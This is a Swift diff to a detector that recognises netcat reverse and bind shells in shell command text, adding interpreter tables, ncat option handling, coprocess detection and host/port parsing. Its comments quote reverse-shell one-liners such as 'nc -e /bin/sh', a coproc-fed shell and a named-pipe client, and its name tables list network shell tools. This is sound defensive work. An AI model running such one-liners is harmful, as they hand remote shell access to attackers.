@@ -9,6 +9,17 @@ enum NetcatMatcher {
     "cryptcat", "sbd", "dbd", "netcat.traditional", "netcat.openbsd",
   ])
 
+  /// Programs that a client is told to run besides shells.
+  private static let interpreters = NameTable([
+    "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "awk", "gawk",
+  ])
+  /// Long options of ncat with a value behind them.
+  private static let valued = NameTable([
+    "--proxy", "--proxy-type", "--proxy-auth", "--proxy-dns", "--source", "--source-port", "--idle-timeout", "--wait",
+    "--delay", "--output", "--hex-dump", "--max-conns", "--allow", "--deny", "--ssl-cert", "--ssl-key",
+    "--ssl-trustfile", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn",
+  ])
+
   private static let telnets = NameTable(["telnet", "telnet.exe"])
 
   /// What a client costs grows with the text; a command line has a few.
@@ -81,10 +92,12 @@ enum NetcatMatcher {
             result.listens = true
           } else if word == "--udp" {
             result.isUDP = true
+          } else if valued.contains(word) {
+            index += 1
           }
           continue
         }
-        for place in 1..<word.count {
+        for place in 1..<(word.firstIndex(of: 0x2F) ?? word.count) {
           switch word[place] {
           case 0x6C: result.listens = true
           case 0x7A: result.scans = true
@@ -92,17 +105,20 @@ enum NetcatMatcher {
           default: break
           }
         }
-        let letters = word.slice(1)
+        // `-e/bin/sh`
+        let slash = word.firstIndex(of: 0x2F)
+        let letters = word.slice(1, slash ?? word.count)
+        let program = slash.map { word.slice($0) } ?? next
         let asksForProgram =
           letters.firstIndex(of: 0x65) != nil || letters.firstIndex(of: 0x63) != nil || letters == "s" || letters == "r"
-        if asksForProgram, ShellWords.isShell(next) {
+        if asksForProgram, ShellWords.isShell(program) || interpreters.contains(ShellWords.baseName(program)) {
           result.runs = true
-          index += 1
+          if slash == nil { index += 1 }
         } else if letters.array.last == 0x70 {
           result.listenPort = next
           index += 1
         } else if "wsixXqoIOTm".utf8.contains(letters.array.last ?? 0), letters.count <= 4, next[0] != 0x2D,
-          Endpoint.port(next) != nil
+          Endpoint.isPort(next)
         {
           index += 1
         }
@@ -125,7 +141,9 @@ enum NetcatMatcher {
   private static func netcat(_ shell: ShellText, _ index: Int, _ place: Int, _ users: Int) -> ShellMatch? {
     let arguments = arguments(words(shell, index, after: place))
     guard !arguments.scans else { return nil }
-    let isPiped = !arguments.runs && (isPipedWithShell(shell, index) || isFedByFIFO(shell, arguments, users))
+    let isPiped =
+      !arguments.runs
+      && (isPipedWithShell(shell, index) || isFedByFIFO(shell, arguments, users) || isCoprocess(shell, index, place))
     guard arguments.runs || isPiped else { return nil }
     let technique = shell.carrier ?? (isPiped && shell.hasFIFO ? "mkfifo_nc" : "nc")
     return match(shell, index, technique, arguments)
@@ -145,6 +163,11 @@ enum NetcatMatcher {
     shell.isPipedWithShell(index) || shell.hasFIFO && shell.hasFreeShell
   }
 
+  /// `coproc nc host 1; exec sh <&${COPROC[0]} >&${COPROC[1]}`
+  private static func isCoprocess(_ shell: ShellText, _ index: Int, _ place: Int) -> Bool {
+    place > 0 && shell.commands[index].words[0] == "coproc" && shell.text.contains("COPROC[") && shell.hasFreeShell
+  }
+
   /// A client, the only one, whose input is the named pipe: `mknod p p && nc host 1 0<p`.
   private static func isFedByFIFO(_ shell: ShellText, _ arguments: Arguments, _ users: Int) -> Bool {
     guard shell.hasFIFO, !arguments.listens, arguments.positional.count >= 2 else { return false }
@@ -162,18 +185,32 @@ enum NetcatMatcher {
     if isBind {
       let ports = [arguments.listenPort].compactMap { $0 } + positional.reversed()
       endpoint.port = ports.lazy.compactMap { shell.variables.resolve($0).withView { Endpoint.port($0) } }.first
-    } else if positional.count >= 2 {
-      endpoint = shell.endpoint(positional[0], positional[1])
+    } else if let pair = pair(shell, positional) {
+      endpoint = pair
+    } else if let port = arguments.listenPort, positional.count == 1, Endpoint.isPlainHost(positional[0]) {
+      // The port said as if it were the near one.
+      endpoint = shell.endpoint(positional[0], port)
     } else if let only = positional.first, let pair = Endpoint.pair(only) {
       endpoint = pair
     } else {
       // Without a far end it can only wait for one.
       isBind = arguments.listenPort != nil
-      if !isBind, positional.isEmpty { return nil }
+      // A path behind it is another command's: `grep -r "nc -e /bin/sh" /var/www`.
+      if !isBind, positional.first.map({ $0[0] == 0x2F || $0[0] == 0x2E }) ?? true { return nil }
     }
     return ShellMatch(
       technique: technique, endpoint: endpoint, isBind: isBind, transport: arguments.isUDP ? "udp" : "tcp",
       place: shell.commands[index].range.lowerBound)
+  }
+
+  /// Host and port: the first two words of which the second is a port, for some options have values; else the first two.
+  private static func pair(_ shell: ShellText, _ words: [ByteView]) -> Endpoint? {
+    guard words.count >= 2 else { return nil }
+    for place in 0..<(words.count - 1)
+    where Endpoint.isPlainHost(words[place]) && Endpoint.isPort(words[place + 1]) {
+      return shell.endpoint(words[place], words[place + 1])
+    }
+    return shell.endpoint(words[0], words[1])
   }
 
   /// `C='curl -Ns telnet://host:port'; $C | sh | $C`
